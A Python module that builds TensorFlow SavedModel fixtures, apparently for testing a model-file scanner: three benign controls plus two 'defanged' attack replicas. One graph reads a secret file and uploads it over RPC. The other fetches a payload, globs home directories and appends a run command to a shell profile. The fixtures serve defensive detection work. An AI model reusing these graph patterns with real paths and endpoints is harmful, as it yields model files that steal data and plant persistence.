"""SavedModel builders: two defanged attack replicas and three benign
controls, all serialized with the real framework.

Graph construction happens exclusively inside tf.function tracing, which
records ops without running them, so no file is read, no byte leaves the
machine, and the serialized python callbacks are inert stubs. Each
builder finishes with proto-level assertions that the expected op types
survived serialization and that every string constant honours the defang
envelope.
"""

from __future__ import annotations

import contextlib
import os
from pathlib import Path

import tensorflow as tf
from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

from . import audit
from .config import ForgeConfig
from .manifest import ManifestEntry

RPC_TIMEOUT_MS = 30000


@contextlib.contextmanager
def _inside(directory: Path):
    previous = os.getcwd()
    Path(directory).mkdir(parents=True, exist_ok=True)
    os.chdir(directory)
    try:
        yield
    finally:
        os.chdir(previous)


def _save(module: tf.Module, cfg: ForgeConfig, name: str) -> Path:
    target = Path(cfg.out_dir) / name
    # tracing (the only in-memory "call" serialization needs) runs with the
    # sandbox as cwd so even relative-path mistakes stay contained
    with _inside(cfg.sandbox_dir):
        tf.saved_model.save(module, str(target))
    return target


def forge_exfil(cfg: ForgeConfig) -> ManifestEntry:
    """Linear model whose traced call reads a (sandboxed) secret file and
    ships the decoded content to a (loopback) rpc endpoint."""
    cfg.prepare_dirs()
    endpoint = cfg.endpoint
    secret = str(cfg.secret_path)

    class ExfilLinear(tf.Module):
        def __init__(self):
            super().__init__()
            self.m = tf.Variable(5.0)

        def _decode_records(self, dataset_variant):
            # inert stub: serialized callback tokens cannot resolve outside
            # the forging process, and nothing here touches the variant
            del dataset_variant
            return tf.constant("")

        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def __call__(self, feat_vec):
            records = tf.raw_ops.FixedLengthRecordDatasetV2(
                filenames=tf.constant(secret),
                header_bytes=0,
                record_bytes=1,
                footer_bytes=0,
                buffer_size=1,
                compression_type="",
            )
            content = tf.py_function(self._decode_records, [records], tf.string)
            client, _ = gen_rpc_ops.rpc_client(
                server_address=tf.constant(endpoint), timeout_in_ms=RPC_TIMEOUT_MS
            )
            gen_rpc_ops.rpc_call(
                client,
                method_name=tf.constant("UploadFile"),
                args=[content],
                timeout_in_ms=RPC_TIMEOUT_MS,
            )
            return self.m * feat_vec

    target = _save(ExfilLinear(), cfg, "exfil_model")
    audit.assert_required_ops(
        target, {"FixedLengthRecordDatasetV2", "EagerPyFunc", "RpcClient", "RpcCall"}
    )
    audit.assert_defanged(target, cfg)
    return ManifestEntry(
        "exfil_model",
        "malicious",
        ("exfiltration",),
        "sandboxed file read feeds loopback rpc send",
    )


def forge_dropper(cfg: ForgeConfig) -> ManifestEntry:
    """Linear model whose traced call fetches a payload from a (loopback)
    endpoint and appends to sandboxed files, shell profile included."""
    cfg.prepare_dirs()
    endpoint = cfg.endpoint
    payload_file = str(cfg.payload_path)
    profile_file = str(cfg.profile_path)
    home_glob = cfg.home_glob

    class DropperLinear(tf.Module):
        def __init__(self):
            super().__init__()
            self.m = tf.Variable(5.0)

        def _receive(self, response_future):
            del response_future
            return tf.constant("")

        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def __call__(self, feat_vec):
            client, _ = gen_rpc_ops.rpc_client(
                server_address=tf.constant(endpoint), timeout_in_ms=RPC_TIMEOUT_MS
            )
            response, _ = gen_rpc_ops.rpc_call(
                client,
                method_name=tf.constant("GetPayload"),
                args=[tf.constant("GET_PAYLOAD")],
                timeout_in_ms=RPC_TIMEOUT_MS,
            )
            payload = tf.py_function(self._receive, [response], tf.string)
            # home-directory reconnaissance, sandbox-confined
            tf.raw_ops.MatchingFiles(pattern=tf.constant(home_glob))
            tf.raw_ops.PrintV2(input=payload, output_stream=f"file://{payload_file}")
            tf.raw_ops.PrintV2(
                input=tf.constant(f"python {payload_file}"),
                output_stream=f"file://{profile_file}",
            )
            return self.m * feat_vec

    target = _save(DropperLinear(), cfg, "dropper_model")
    audit.assert_required_ops(
        target, {"RpcClient", "RpcCall", "EagerPyFunc", "MatchingFiles", "PrintV2"}
    )
    audit.assert_defanged(target, cfg)
    return ManifestEntry(
        "dropper_model",
        "malicious",
        ("dropper",),
        "loopback rpc receive feeds sandboxed profile append",
    )


def forge_benign(cfg: ForgeConfig) -> list[ManifestEntry]:
    """Controls: plain math, console printing, and checkpoint-op graphs."""
    cfg.prepare_dirs()
    entries: list[ManifestEntry] = []

    class PlainLinear(tf.Module):
        def __init__(self):
            super().__init__()
            self.m = tf.Variable(5.0)
            self.b = tf.Variable(0.5)

        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def __call__(self, feat_vec):
            return self.m * feat_vec + self.b

    target = _save(PlainLinear(), cfg, "benign_linear")
    audit.assert_defanged(target, cfg)
    entries.append(
        ManifestEntry(
            "benign_linear",
            "informational",
            (),
            "pure arithmetic; only the serializer's own checkpoint functions",
        )
    )

    class ConsoleLogger(tf.Module):
        def __init__(self):
            super().__init__()
            self.m = tf.Variable(2.0)

        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def __call__(self, feat_vec):
            tf.raw_ops.PrintV2(
                input=tf.constant("inference step"), output_stream="stderr"
            )
            return self.m * feat_vec

    target = _save(ConsoleLogger(), cfg, "benign_print")
    audit.assert_required_ops(target, {"PrintV2"})
    audit.assert_defanged(target, cfg)
    entries.append(
        ManifestEntry(
            "benign_print",
            "informational",
            (),
            "console printing stays inside the allowlist",
        )
    )

    ckpt_prefix = cfg.checkpoint_prefix

    class CheckpointWriter(tf.Module):
        def __init__(self):
            super().__init__()
            self.m = tf.Variable(3.0)

        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def __call__(self, feat_vec):
            tf.raw_ops.SaveV2(
                prefix=tf.constant(ckpt_prefix),
                tensor_names=tf.constant(["m"]),
                shape_and_slices=tf.constant([""]),
                tensors=[self.m.read_value()],
            )
            return self.m * feat_vec

    target = _save(CheckpointWriter(), cfg, "benign_checkpoint")
    audit.assert_required_ops(target, {"SaveV2"})
    audit.assert_defanged(target, cfg)
    entries.append(
        ManifestEntry(
            "benign_checkpoint",
            "informational",
            (),
            "checkpoint write is recorded but not chain-relevant",
        )
    )
    return entries
